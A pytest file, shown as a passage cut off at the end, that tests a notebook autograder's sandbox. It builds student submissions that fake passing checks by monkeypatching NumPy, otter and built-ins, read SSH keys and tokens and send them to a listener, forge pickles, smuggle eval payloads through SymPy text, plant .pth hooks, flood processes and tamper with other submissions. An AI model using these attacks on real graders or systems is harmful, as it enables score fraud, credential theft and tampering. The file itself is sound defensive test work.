"""Submissions written to cheat, graded as a class is graded: none changes a grade.

Every attack of the threat model on the instructors' page is a submission, made from a
chapter's notebook as a student would make it: the *garbage* notebook (the right names
and shapes, zero values: it scores 0) or the *solution*, plus a few lines of attack.
Each must score what the same notebook scores without the attack, or be refused with a
sentence that says why; it must leave nothing behind on the grading machine (the
autograder, the other submissions, the CSV, the virtual environment, processes, files,
connections); and the submissions graded with and after it are graded as if it were
not there. The honest solution scores full marks with nothing to review.

A chapter's submissions are graded in one ``grade`` run, two at a time, as an
instructor grades a class; the notebooks keep only the cells the answers need (and
one honest submission is the whole chapter), so the suite costs about a minute.
Solutions read what they found: an attack that reads or tries something the sandbox
should prevent spoils one of its answers when it succeeds, so full marks mean it failed.
"""
from __future__ import annotations

import ast
import copy
import hashlib
import io
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import nbformat
import pytest

from bookwork import assignments
from bookwork.grading import classroom, grade, judge, sandbox, wire
from bookwork.grading.grade import GradingError
from tests.support.runs import processes_with

ROOT = Path(__file__).resolve().parents[2]

pytestmark = pytest.mark.skipif(
    sys.platform != "linux", reason="the grader's sandbox is bubblewrap, which needs Linux")

CHECK = re.compile(r'grader\.check\(\s*"([^"]+)"\s*\)')
IMPORTS = "import numpy as np\nimport sympy as sp"

#: Answers with the right names and shapes and zero values: each scores 0.
GARBAGE = {
    "03_rope": {
        "ex-03-rotate": "def rope_rotate(x, positions, base=10_000.0):\n    return np.zeros(np.shape(x))",
        "ex-03-scaling": ('lam, phi = sp.Symbol("lambda", positive=True), sp.Symbol("varphi", real=True)\n\n'
                          "def scaled_score(m, n):\n    return sp.Integer(0)\n\n"
                          "def prefactor(m, n):\n    return sp.Integer(0)"),
        "ex-03-convert": "convert = np.zeros(32, dtype=int)",
        "ex-03-base": ("slowest_degrees = {10_000: 0.0, 500_000: 0.0}\n"
                       "pairs_under_one_turn = {10_000: 0, 500_000: 0}"),
        "ex-03-aim": "weights = {(0,): 0.0, (0, 1): 0.0, (0, 1, 2): 0.0, (7,): 0.0}\npairs_needed = 0",
    },
    "04_alibi": {
        "ex-04-slopes": "def alibi_slopes(n_heads):\n    return np.zeros(n_heads)",
        "ex-04-mean": "mean_distance = sp.Integer(0)\nnumeric_means = np.zeros(8)\nmean_expansion = sp.Integer(0)",
        "ex-04-twelve": "spans12 = np.zeros(12)\nheads_by_span = [0] * 12",
    },
}

# --- the attacks (section numbers as on the instructors' page) -------------------------------

#: A1: NumPy's comparisons and the package's symbolic zero test always agree.
A1 = """import numpy as np, companion.symbolic
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *args, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
companion.symbolic.is_zero = lambda *a, **k: True"""
#: A2: the package's checks do nothing.
A2 = """from companion import checks
for name in ("close", "equal", "integer", "zero", "symbolic_equal", "holds", "shape"):
    setattr(checks, name, lambda *a, **k: None)
for name in ("answer", "function", "result"):
    setattr(checks, name, lambda label, value, *a, **k: value)"""
#: A3: the references the checks compare with give the garbage's answers.
A3 = """from companion import rope, scaling
rope.rotate = lambda x, positions, theta, layout="adjacent": np.zeros(np.shape(x))
rope.layout_permutation = lambda d, source, target: np.zeros(d, dtype=int)
rope.self_attention = lambda x, *a, **k: (np.zeros((len(x), 8)), None)
rope.angles = lambda n, theta: np.zeros(len(theta))
scaling.training_turns = lambda theta, n: np.zeros(len(theta))"""
#: A4: a grader that says every check passed.
A4 = """class Everything:
    def check(self, question):
        print(question, "results: All test cases passed!")
    def check_all(self):
        pass
    def export(self, *args, **kwargs):
        pass
grader = Everything()
import otter
otter.Notebook.check = Everything.check"""
#: A5: otter's test runner, patched to pass every case (the real otter, not the stand-in).
A5 = """import sys
sys.modules.pop("otter", None)
from otter.test_files.abstract_test import TestCaseResult
from otter.test_files.exception_test import ExceptionTestFile
def run(self, env):
    self.test_case_results = [TestCaseResult(test_case=tc, message="passed", passed=True)
                              for tc in self.test_cases]
ExceptionTestFile.run = run"""
#: A6: ``sys.modules`` holds a companion whose checks never fail (the real one untouched).
A6 = """import sys, types, companion, companion.checks
fake, fake_checks = types.ModuleType("companion"), types.ModuleType("companion.checks")
fake.__dict__.update(companion.__dict__)
fake_checks.__dict__.update(companion.checks.__dict__)
for name in ("close", "equal", "integer", "zero", "symbolic_equal", "holds", "shape"):
    setattr(fake_checks, name, lambda *a, **k: None)
fake.checks = fake_checks
sys.modules["companion"], sys.modules["companion.checks"] = fake, fake_checks"""
#: A7: answers equal to everything; a float subclass; float's own equality patched.
A7 = """class Same:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
class Close(float):
    def __eq__(self, other):
        return True
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
    __hash__ = float.__hash__
convert = Same()
slowest_degrees = {10_000: Close(0.0), 500_000: Close(0.0)}
pairs_under_one_turn = {10_000: Close(0.0), 500_000: Close(0.0)}
try:
    float.__eq__ = lambda self, other: True
except TypeError:
    pass"""
#: A8c: the answer raises an exception that ``except Exception`` does not catch.
A8C = """class Escape(BaseException):
    pass

def rope_rotate(x, positions, base=10_000.0):
    raise Escape("past every except Exception")"""
#: A9: the functions the comparisons rest on.
A9 = """import builtins, math
builtins.abs = lambda x: 0
math.isclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None"""
#: A10 at run time: a companion/ folder written next to the notebook and imported.
A10 = """import os, sys
os.makedirs("companion", exist_ok=True)
with open("companion/__init__.py", "w") as handle:
    handle.write("from . import checks\\n")
with open("companion/checks.py", "w") as handle:
    handle.write("def __getattr__(name):\\n    return lambda *a, **k: (a[1] if len(a) > 1 else None)\\n")
for name in [m for m in sys.modules if m == "companion" or m.startswith("companion.")]:
    del sys.modules[name]
sys.path.insert(0, os.getcwd())
import companion"""
#: A11: the question's inputs redefined in its answer cell (and a prefactor right only at (2, 3)).
A11 = """lam, phi = sp.Symbol("lambda", positive=True), sp.Symbol("varphi", real=True)
q2 = k2 = sp.zeros(2, 1)

def scaled_score(m, n):
    return sp.Integer(0)

def prefactor(m, n):
    return lam ** 5"""
#: R1: read what a grader's machine holds, and send it out three ways.
R1 = """import glob, json, os, socket
found = []
for path in SECRETS:
    try:
        with open(path, "rb") as handle:
            handle.read(16)
        found.append(path)
    except OSError:
        pass
found += [name for name in os.environ if "TOKEN" in name or "SECRET" in name]
for pid in (p for p in os.listdir("/proc") if p.isdigit()):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            command = handle.read()
    except OSError:
        continue
    if b"--csv" in command or b"autograder" in command or b"victim" in command:
        found.append(f"/proc/{pid}")
hidden = "default_rng(20" + "24)"  # a line of ex-03-rotate's hidden check
for path in glob.glob("/tmp/**", recursive=True) + glob.glob("/grading/**", recursive=True):
    try:
        with open(path, errors="ignore") as handle:
            if hidden in handle.read():
                found.append(path)
    except OSError:
        pass
loot = json.dumps({"found": found, "environment": dict(os.environ)})
try:  # (a) a world-readable folder
    with open(LOOT, "w") as handle:
        handle.write(loot)
except OSError:
    pass
try:  # (b) the network
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
        connection.sendall(loot.encode())
except OSError:
    pass"""
#: R1 (c): the loot in the message of the exception the answer raises.
R1_MESSAGE = """def rope_rotate(x, positions, base=10_000.0):
    raise RuntimeError("LeakError: " + loot)"""
#: D1: a process outlives the grading and rewrites the CSV.
D1 = """import subprocess, sys
script = "import time; time.sleep(2)\\nwith open(CSV, 'a') as f: f.write('d1.ipynb,3,2,3,2,10,0\\\\n')"
subprocess.Popen([sys.executable, "-c", script.replace("CSV", repr(CSV))], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"""
#: D2: the autograder rewritten for every submission graded after this one.
D2 = """import zipfile
try:
    with zipfile.ZipFile(AUTOGRADER, "a") as archive:
        archive.writestr("tests/ex-03-rotate.py", "name = 'ex-03-rotate'\\npoints = 3\\n")
except OSError:
    pass"""
#: D3: the next submission edited (the rotation turned the wrong way), the one after deleted.
D3 = """import os
try:
    with open(VICTIM_A) as handle:
        text = handle.read()
    with open(VICTIM_A, "w") as handle:
        handle.write(text.replace("- second * np.sin(phi)", "+ second * np.sin(phi)"))
except OSError:
    pass
try:
    os.remove(VICTIM_B)
except OSError:
    pass"""
#: D4: a .pth file in the grading environment, to patch later gradings.
D4 = """import os, site, sys
for folder in site.getsitepackages() + [sys.prefix]:
    try:
        with open(os.path.join(folder, "zz_grading_hook.pth"), "w") as handle:
            handle.write("import os\\n")
    except OSError:
        pass"""
#: D5: limits, memory, orphans: 30 sleepers in their own sessions, then as many processes as it can.
D5 = """import os, resource, subprocess
limited = (os.getuid() != 0 and resource.getrlimit(resource.RLIMIT_NPROC)[0] <= 256
           and resource.getrlimit(resource.RLIMIT_AS)[0] < 2**40
           and resource.getrlimit(resource.RLIMIT_CPU)[0] < 10_000)
block = bytearray(400 * 2**20)  # 400 MB: allowed
sleepers = [subprocess.Popen(["sleep", "86399.25"], start_new_session=True) for _ in range(30)]
started = 0
try:
    for _ in range(300):
        subprocess.Popen(["sleep", "86399.25"])
        started += 1
except OSError:
    pass
found = not limited or started == 300"""
#: D8: 50 MB printed, and a failure message of 3,000 error lines with terminal escapes
#: (fifty symbols, each named by sixty lines that look like errors).
D8 = """import sys
sys.stdout.write("x" * 50_000_000)
ESCAPE = chr(27)
flood = sum(sp.Symbol(ESCAPE + "[3A" + ESCAPE + "[2K 2 / 2 <- spoofed\\n"
                      + "\\n".join("Fake" + chr(97 + i // 26) + chr(97 + i % 26) + chr(97 + j % 26) + "Error: x"
                                    for j in range(60))) for i in range(50))

def scaled_score(m, n):
    return flood"""
#: D10: look for another submission's process, kernel or connection file, to take it over.
D10 = """import glob, os, time
found = []
deadline = time.time() + 4
while time.time() < deadline and not found:
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                command = handle.read()
        except OSError:
            continue
        if b"victim" in command or b"ipykernel" in command:
            found.append(pid)
    found += glob.glob("/tmp/*.json") + glob.glob("/run/user/*/jupyter/*.json")
    found += glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/*.json"))
    time.sleep(0.5)"""
#: X1: a pickle sent to the judge in place of an answer (it would create MARKER if unpickled).
X1 = """import io, json, os, struct
class Payload:
    def __reduce__(self):
        return (open, (MARKER, "w"))
with open("/grading/job.json") as handle:
    to_judge = json.load(handle)["to_judge"]
buffer = io.BytesIO()
np.save(buffer, np.array([Payload()], dtype=object), allow_pickle=True)
blob = buffer.getvalue()
header = json.dumps({"value": {"t": "ndarray", "blob": 0}, "blobs": [len(blob)]}).encode()
body = struct.pack(">Q", len(header)) + header + blob
forged = struct.pack(">Q", len(body)) + body

def rope_rotate(x, positions, base=10_000.0):
    os.write(to_judge, forged)  # the judge reads this as the call's result
    return np.zeros(np.shape(x))"""
#: S1-S3 (second reading, REVIEW §8): an answer that is text, which SymPy would evaluate
#: as Python (``sympify`` of a string is ``eval``) if the judge ever read it as an
#: expression. Evaluated, the text would read the secrets, send them out, plant a .pth
#: file, edit a classmate's submission and add a row to the CSV after the command
#: returns, and then give the right answer, for full marks. It crosses as text in every
#: form a check could meet: a string, a NumPy string, a unicode array, a list and a dict
#: of strings, an object with ``flat`` and ``shape``.
EVIL = ("(__import__('pathlib').Path(MARKER).write_text(open(SECRET).read()), "
        "__import__('socket').create_connection(('127.0.0.1', 'PORT')).sendall(b'loot'), "
        "open(PTH, 'w').write('import os'), open(VICTIM, 'a').write(' '), open(CSV, 'a').write('evil,8'), "
        "1 / (exp(Symbol('m', positive=True)) - 1))[-1]")


def evil_text(**places) -> str:
    """:data:`EVIL` with the places it would reach written in (it runs where SymPy reads it)."""
    text = EVIL
    for name, value in places.items():
        text = text.replace(name, str(value) if name == "PORT" else repr(str(value)))
    return text
S_FLAT = """class Flat:
    def __init__(self, items):
        self.flat, self.shape = items, (len(items),)
"""
S1 = "mean_distance = EVIL\nmean_expansion = np.str_(EVIL)"
S2 = "mean_distance = np.array([EVIL])\nmean_expansion = [EVIL]"
S3 = S_FLAT + "mean_distance = {'a': EVIL}\nmean_expansion = Flat([EVIL])"
#: S4: a function of the submission that returns text to a check.
S4 = """def scaled_score(m, n):
    return EVIL

def prefactor(m, n):
    return EVIL"""
#: K1, K2: the kernel's keyring, which no namespace separates: the first run leaves a key
#: (any success spoils its answer), the run after it looks for the key (and spoils its
#: answer if it finds it). A seccomp filter refuses the calls, as Docker's default does.
KEYRING = """import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, REQUEST_KEY = {"x86_64": (248, 249), "aarch64": (217, 218)}[platform.machine()]
USER_KEYRING = -4
"""
K1 = KEYRING + 'found = libc.syscall(ADD_KEY, b"user", b"grading-leak", b"full marks", 10, USER_KEYRING) >= 0'
K2 = KEYRING + 'found = libc.syscall(REQUEST_KEY, b"user", b"grading-leak", None, 0) >= 0'
#: M1-M3: code that stopped or held the review of the whole class: 501 magics, a sum of a
#: thousand terms (nested too deeply for a recursive walk), a cell of 1 MB.
M1 = "\n".join(["%time x = 1"] * 501)
M2 = "total = " + " + ".join(["1"] * 1000)
M3 = "# " + "x" * 2**20
#: Appended to a solution's convert cell: a found secret (or a failed limit) spoils the answer.
SPOIL = "if found:\n    convert = convert[::-1]"


# --- making the submissions -------------------------------------------------------------------

def _code_names(source: str) -> tuple[set[str], set[str]]:
    """Names a cell defines, and names it reads."""
    try:
        tree = ast.parse(source)
    except SyntaxError:
        return set(), set()
    defined, read = set(), set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Name):
            (defined if isinstance(node.ctx, ast.Store) else read).add(node.id)
        elif isinstance(node, (ast.FunctionDef, ast.ClassDef)):
            defined.add(node.name)
        elif isinstance(node, (ast.Import, ast.ImportFrom)):
            defined |= {(a.asname or a.name).split(".")[0] for a in node.names}
        elif isinstance(node, ast.arg):
            defined.add(node.arg)
    return defined, read


class Chapter:
    """A generated assignment and the notebooks made from it."""

    def __init__(self, lesson: str, out: Path):
        self.lesson, self.folder = lesson, assignments.generate(ROOT / "lessons" / f"{lesson}.ipynb", out)
        self.autograder = self.folder / "autograder" / "autograder.zip"
        #: The autograded questions' points, in the notebook's order: full marks is their sum.
        self.points = grade.Autograder.load(self.autograder).points
        self.full = round(sum(self.points.values()))
        self.student = nbformat.read(self.folder / "student" / f"{lesson}.ipynb", as_version=4)
        self.solution = nbformat.read(self.folder / "autograder" / f"{lesson}.ipynb", as_version=4)
        self.code = [c for c in self.student["cells"] if c["cell_type"] == "code"]
        self.answers = [c["source"] for c in self.solution["cells"] if c["cell_type"] == "code"]
        self.owner, question = [None] * len(self.code), None
        for index in range(len(self.code) - 1, -1, -1):
            match = CHECK.fullmatch(self.code[index]["source"].strip())
            question = match.group(1) if match else question
            self.owner[index] = question

    def is_answer(self, index: int) -> bool:
        return "otter_answer_cell" in self.code[index]["metadata"].get("tags", []) and bool(self.owner[index])

    def is_grader(self, index: int) -> bool:
        return "grader." in self.code[index]["source"]

    def notebook(self, cells: list[str], assignment: str | None = None) -> dict:
        nb = copy.deepcopy(self.student)
        nb["cells"] = [{"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
                        "source": source} for source in cells]
        nb["metadata"]["otter"]["assignment_name"] = assignment or self.lesson
        return nb

    def garbage(self, prelude: str = "", answers: dict | None = None, after: dict | None = None) -> dict:
        """Setup, the imports, the garbage answers (or ``answers``), the check cells."""
        answers = {**GARBAGE[self.lesson], **(answers or {})}
        cells = [self.code[0]["source"], self.code[1]["source"], IMPORTS] + ([prelude] if prelude else [])
        for index, cell in enumerate(self.code[2:], start=2):
            match = CHECK.fullmatch(cell["source"].strip())
            if match:
                cells.append(answers[match.group(1)])
                cells += [after[match.group(1)]] if after and match.group(1) in after else []
            if self.is_grader(index):
                cells.append(cell["source"])
        return self.notebook(cells)

    def trimmed_solution(self, prelude: str = "", answers: dict | None = None, after: dict | None = None,
                         checks: bool = True) -> dict:
        """The solution with only the cells its answers need (found by the names they read)."""
        keep = {0, 1} | {i for i in range(len(self.code)) if self.is_answer(i) or self.is_grader(i)}
        names = [_code_names(source) for source in self.answers]
        frontier = list(keep)
        while frontier:
            index = frontier.pop()
            for name in names[index][1] - names[index][0]:
                source = next((j for j in range(index - 1, -1, -1) if name in names[j][0]), None)
                if source is not None and source not in keep:
                    keep.add(source)
                    frontier.append(source)
        cells, done = [], set()
        for index in sorted(keep):
            question = self.owner[index]
            if self.is_grader(index) and not checks and CHECK.fullmatch(self.code[index]["source"].strip()):
                continue
            if self.is_answer(index) and answers and question in answers:
                if question not in done:
                    cells.append(answers[question])
                    done.add(question)
                continue
            cells.append(self.answers[index])
            if index == 2 and prelude:
                cells.append(prelude)
            last_answer = self.is_answer(index) and not any(
                self.is_answer(j) and self.owner[j] == question for j in range(index + 1, len(self.code)))
            if last_answer and after and question in after:
                cells.append(after[question])
        return self.notebook(cells)


def _write(folder: Path, name: str, notebook: dict) -> Path:
    path = folder / name
    path.write_text(json.dumps(notebook))
    return path


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _with(code: str, **values) -> str:
    """``code`` with the names it expects from the test (paths, ports) defined first."""
    return "".join(f"{name} = {value!r}\n" for name, value in values.items()) + code



class Listener(threading.Thread):
    """A server on the grading machine's loopback that records every connection."""

    def __init__(self):
        super().__init__(daemon=True)
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.start()

    def run(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            with connection:
                self.received.append(connection.recv(65536) or b"<connected>")


def _grade(capsys, autograder: Path, submissions: list[Path], csv_path: Path, *options) -> tuple[int, str]:
    status = classroom.main([str(autograder), *map(str, submissions), "--csv", str(csv_path), "--jobs", "2",
                             *options])
    return status, capsys.readouterr().out


def _blocks(out: str, names: list[str]) -> dict[str, str]:
    """Each submission's part of the printed grades."""
    starts = {name: out.rfind("\n", 0, out.index(f"/{name}: ")) + 1 for name in names}
    ends = sorted(starts.values()) + [len(out)]
    return {name: out[at:ends[ends.index(at) + 1]] for name, at in starts.items()}


def _rows(csv_path: Path) -> dict[str, dict]:
    import csv
    with open(csv_path, newline="") as handle:
        return {Path(row["submission"]).name: row for row in csv.DictReader(handle)}


# --- the tests ---------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def chapters(tmp_path_factory):
    out = tmp_path_factory.mktemp("attacked")
    return {lesson: Chapter(lesson, out) for lesson in ("03_rope", "04_alibi")}


def test_attacks_on_chapter_3(chapters, tmp_path, capsys, monkeypatch):
    """Every attack on chapter 3's assignment in one grade run, two at a time."""
    rope, alibi = chapters["03_rope"], chapters["04_alibi"]
    subs, csv_path = tmp_path / "submissions", tmp_path / "grades.csv"
    subs.mkdir()
    secret = tmp_path / "home" / ".ssh" / "id_ed25519"
    secret.parent.mkdir(parents=True)
    secret.write_text("SECRET-KEY-5678")
    listener, loot, marker = Listener(), tmp_path / "shared" / "loot.json", tmp_path / "unpickled"
    loot.parent.mkdir()
    loot.parent.chmod(0o777)
    victim_a, victim_b = subs / "victim-a.ipynb", subs / "victim-b.ipynb"
    site_packages = Path(next(p for p in sys.path if p.endswith("site-packages")))
    monkeypatch.setenv("INSTRUCTOR_API_TOKEN", "fake-token-1234")
    spoil = {"ex-03-convert": SPOIL}
    # full marks, and full marks less the answer a successful attack spoils
    full, spoiled = rope.full, rope.full - round(rope.points["ex-03-convert"])
    made = {  # name: (notebook, expected total out of full, a finding the review must show)
        "solution.ipynb": (rope.solution, full, None),
        "garbage.ipynb": (rope.garbage(), 0, None),
        "a1-allclose.ipynb": (rope.garbage(A1), 0, "changes np.allclose (monkeypatching a module)"),
        "a2-checks.ipynb": (rope.garbage(A2), 0, "calls setattr()"),
        "a3-references.ipynb": (rope.garbage(A3), 0, "changes rope.rotate (monkeypatching a module)"),
        "a4-grader.ipynb": (rope.garbage(A4), 0, "changes otter.Notebook.check (monkeypatching a module)"),
        "a5-otter.ipynb": (rope.garbage(A5), 0, "changes ExceptionTestFile.run (monkeypatching a module)"),
        "a6-modules.ipynb": (rope.garbage(A6), 0, "uses sys.modules"),
        "a7-equal.ipynb": (rope.garbage(A7), 0, "changes float.__eq__ (monkeypatching a built-in type)"),
        "a8a-exit.ipynb": (rope.trimmed_solution("raise SystemExit"), full, "('raise SystemExit')"),
        "a8c-baseexception.ipynb": (rope.garbage(answers={"ex-03-rotate": A8C}), 0, "derives from BaseException"),
        "a9-abs.ipynb": (rope.garbage(A9), 0, "changes builtins.abs (monkeypatching a module)"),
        "a10-folder.ipynb": (rope.garbage(A10), 0, "calls open()"),
        "a11-inputs.ipynb": (rope.garbage(answers={"ex-03-scaling": A11}), 0, None),
        "p1-no-checks.ipynb": (rope.trimmed_solution(checks=False), full, "given code cell(s)"),
        "r1-loot.ipynb": (rope.trimmed_solution(
            _with(R1, SECRETS=[str(secret), str(victim_a), str(rope.autograder), str(Path.home() / ".bash_history")],
                  LOOT=str(loot), PORT=listener.port), answers={"ex-03-rotate": R1_MESSAGE}, after=spoil), spoiled,
            "the run reported: socket.connect"),
        "d1-csv.ipynb": (rope.garbage(_with(D1, CSV=str(csv_path))), 0, "imports subprocess"),
        "d2-autograder.ipynb": (rope.garbage(_with(D2, AUTOGRADER=str(rope.autograder))), 0,
                                "names autograder in a string"),
        "d3-others.ipynb": (rope.trimmed_solution(_with(D3, VICTIM_A=str(victim_a), VICTIM_B=str(victim_b))), full,
                            "uses os.remove"),
        "victim-a.ipynb": (rope.trimmed_solution(), full, None),
        "victim-b.ipynb": (rope.trimmed_solution(), full, None),
        "d4-pth.ipynb": (rope.trimmed_solution(D4), full, "names .pth in a string"),
        "d5-limits.ipynb": (rope.trimmed_solution(D5, after=spoil), full, "imports subprocess"),
        "d8-flood.ipynb": (rope.garbage(answers={"ex-03-scaling": GARBAGE["03_rope"]["ex-03-scaling"] + "\n" + D8}),
                           0, "imports sys"),
        "d10-takeover.ipynb": (rope.trimmed_solution(D10, after=spoil), full, "imports glob"),
        "victim-d10.ipynb": (rope.garbage(), 0, None),
        "x1-pickle.ipynb": (rope.garbage(answers={"ex-03-rotate": _with(X1, MARKER=str(marker))}), None,
                            "calls open()"),
        "a8b-exit.ipynb": (rope.garbage(answers={"ex-03-base": "import os\nos._exit(0)"}), "broke off",
                           "uses os._exit"),
        "f4-other-metadata.ipynb": (alibi.notebook([c["source"] for c in alibi.garbage()["cells"]],
                                                   assignment="03_rope"), 0, None),
        "s4-text-result.ipynb": (rope.trimmed_solution(answers={"ex-03-scaling": _with(S4, EVIL=evil_text(
            MARKER=marker, SECRET=secret, PORT=listener.port, PTH=site_packages / "zz_evil.pth", VICTIM=victim_a,
            CSV=csv_path))}), full - round(rope.points["ex-03-scaling"]), None),
        "k1-keyring.ipynb": (rope.trimmed_solution(K1, after=spoil), full, "imports ctypes"),
        "k2-keyring.ipynb": (rope.trimmed_solution(K2, after=spoil), full, "imports ctypes"),
        "m1-magics.ipynb": (rope.trimmed_solution(M1), full, "not Python the review can read"),
        "m2-long-sum.ipynb": (rope.trimmed_solution(M2), full, None),
        "m3-huge-cell.ipynb": (rope.trimmed_solution(M3), full, "characters, more than the 100,000 the review reads"),
    }
    for name, (notebook, _, _) in made.items():
        _write(subs, name, notebook)
    bidi = _write(subs, "b1-\u202egpj.ipynb", rope.garbage())  # shows as "b1-.jpg..." where bidi is honoured
    # F: files that are not a submission of this chapter, refused before anything runs
    refused = {
        "f1-corrupt.ipynb": "not a notebook: the file is not JSON",
        "f2-huge.ipynb": "larger than the cap of 4 MiB",
        "f3-other-chapter.ipynb": "this notebook is for assignment '04_alibi', not '03_rope'",
        "f5-notes.txt": "not a notebook: a submission is a .ipynb file",
        "f6-script.py": "not a notebook: a submission is a .ipynb file",
        "f7-bomb.zip": "the notebook in the zip is larger than 4 MiB",
        "f9-two.zip": "the zip holds 2 notebooks",
        "a10-shadow.zip": "the zip holds files besides the notebook ('companion/__init__.py'",
        "z1-name.zip": "not a readable zip (UnicodeDecodeError",
        "z2-deflate.zip": "the notebook in the zip cannot be read (",
        "z3-lzma.zip": "the notebook in the zip cannot be read (",
    }
    (subs / "f1-corrupt.ipynb").write_text("{not json")
    huge = rope.garbage()
    huge["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "x" * (5 * 2**20)})
    _write(subs, "f2-huge.ipynb", huge)
    _write(subs, "f3-other-chapter.ipynb", alibi.student)
    (subs / "f5-notes.txt").write_text("my answers")
    (subs / "f6-script.py").write_text("def rope_rotate(x, positions, base=10_000.0):\n    pass\n")
    student = json.dumps(rope.student).encode()
    _zip(subs / "f7-bomb.zip", {"03_rope.ipynb": b"{" + b" " * (64 * 2**20) + b"}"})
    _zip(subs / "f9-two.zip", {"a.ipynb": student, "b.ipynb": student})
    _zip(subs / "a10-shadow.zip", {"03_rope.ipynb": student, "companion/__init__.py": b"import otter\n"})
    # damaged uploads: a member name flagged UTF-8 that is not, corrupt deflate and LZMA data
    _zip(subs / "z1-name.zip", {"\u00e9.ipynb": student})
    (subs / "z1-name.zip").write_bytes((subs / "z1-name.zip").read_bytes().replace("\u00e9".encode(), b"\xff\xfe"))
    for name, method in (("z2-deflate.zip", zipfile.ZIP_DEFLATED), ("z3-lzma.zip", zipfile.ZIP_LZMA)):
        with zipfile.ZipFile(subs / name, "w", method) as archive:
            archive.writestr("03_rope.ipynb", student)
        data = bytearray((subs / name).read_bytes())
        data[200:260] = bytes(range(60))  # inside the compressed notebook
        (subs / name).write_bytes(bytes(data))
    # an exported zip (otter's log beside the notebook) whose member's name climbs out of the folder
    _zip(subs / "f8-export.zip", {"../../../../tmp/f8/03_rope.ipynb": json.dumps(rope.trimmed_solution()).encode(),
                                   ".OTTER_LOG": b"\x80\x04not opened", "__zip_filename__": b"f8-export.zip"})
    first = ["solution.ipynb", "d2-autograder.ipynb", "garbage.ipynb", "d3-others.ipynb", "victim-a.ipynb",
             "victim-b.ipynb", "d10-takeover.ipynb", "victim-d10.ipynb", "k1-keyring.ipynb", "m1-magics.ipynb",
             "m2-long-sum.ipynb", "k2-keyring.ipynb"]  # victims after their attackers (k2 once k1 has ended)
    order = first + [name for name in made if name not in first] + list(refused) + ["f8-export.zip"]
    files = [subs / name for name in order] + [bidi]
    before = {"autograder": _sha(rope.autograder), "site-packages": sorted(os.listdir(site_packages)),
              "victims": [_sha(victim_a), _sha(victim_b)]}

    status, out = _grade(capsys, rope.autograder, files, csv_path, "--max-size", "4", "--timeout", "300")
    time.sleep(3)  # D1's process would write now, had it outlived its run
    (tmp_path / "printed.txt").write_text(out)  # kept by pytest, to read when a check below fails

    assert status == 1, "some submissions are refused"
    blocks, rows = _blocks(out, order), _rows(csv_path)
    for name, (_, total, finding) in made.items():
        block = blocks[name]
        if total is None:  # X1: its run broke off, or it scored nothing
            assert "could not grade: the notebook's run broke off" in block or f"{name}: 0 / {full}" in block, block
        elif total == "broke off":  # A8b: the run ended its own process before the end
            assert f"{name}: could not grade: the notebook's run broke off before the end" in block, block
            continue
        else:
            assert f"{name}: {total} / {full}" in block, block
            assert rows[name]["total"] == f"{total:.1f}", name
        if finding:
            assert finding in block, f"{name}: the review does not show {finding!r}:\n{block}"
    for name, reason in refused.items():
        assert f"{name}: could not grade: refused: " in blocks[name] and reason in blocks[name], blocks[name]
        assert rows[name]["error"].startswith("refused: "), name
    assert f"f8-export.zip: {full} / {full}" in blocks["f8-export.zip"] and not Path("/tmp/f8").exists()
    assert "review" not in blocks["solution.ipynb"], "the honest solution has nothing to review"
    # A8c: every question is graded; the exception's type is named, no more
    assert blocks["a8c-baseexception.ipynb"].count(" / ") == 1 + len(rope.points)
    assert "Escape in the submitted code" in blocks["a8c-baseexception.ipynb"]
    # A11: the checks build their own q and k: the redefined inputs change nothing
    assert "ex-03-scaling                    0 / 2" in blocks["a11-inputs.ipynb"]
    # R1: nothing read leaves the sandbox, in a file, a connection or a message
    assert not loot.exists() and listener.received == []
    for word in ("fake-token-1234", "SECRET-KEY", "LeakError"):
        assert word not in blocks["r1-loot.ipynb"], word
    assert "RuntimeError in the submitted code" in blocks["r1-loot.ipynb"]
    # D1, D2, D3, D4, X1: the grading machine is as it was
    assert out.count(f"SHA-256 {_sha(csv_path)}") == 1 and "d1.ipynb" not in csv_path.read_text()
    assert _sha(rope.autograder) == before["autograder"]
    assert [_sha(victim_a), _sha(victim_b)] == before["victims"]
    assert sorted(os.listdir(site_packages)) == before["site-packages"]
    assert not marker.exists()
    # D5: no process of a run outlives it
    assert processes_with("86399.25") == []
    # D8: printed output and messages are bounded, and no terminal escape gets through
    assert "\x1b" not in out and max(len(line) for line in out.splitlines()) <= 320
    assert "FakeaabError" not in blocks["d8-flood.ipynb"]
    # S4: a function's text result is a wrong answer, never read as an expression
    assert "it is text. Build it with SymPy" in blocks["s4-text-result.ipynb"]
    assert not (site_packages / "zz_evil.pth").exists()
    # M2: a sum of a thousand terms is read or reported, never a crash of the review
    assert ("nested too deeply" in blocks["m2-long-sum.ipynb"] or "not Python the review can read"
            in blocks["m2-long-sum.ipynb"] or "review" not in blocks["m2-long-sum.ipynb"])
    # B1: a file name's bidirectional override is written as its escape, on the terminal and in the CSV
    assert "b1-\\u202egpj.ipynb: 0 / " in out and "\u202e" not in out
    assert "\u202e" not in csv_path.read_text() and "b1-\\u202egpj.ipynb" in csv_path.read_text()
    # the judges' server and every judge ended with the command (this grader's own: the
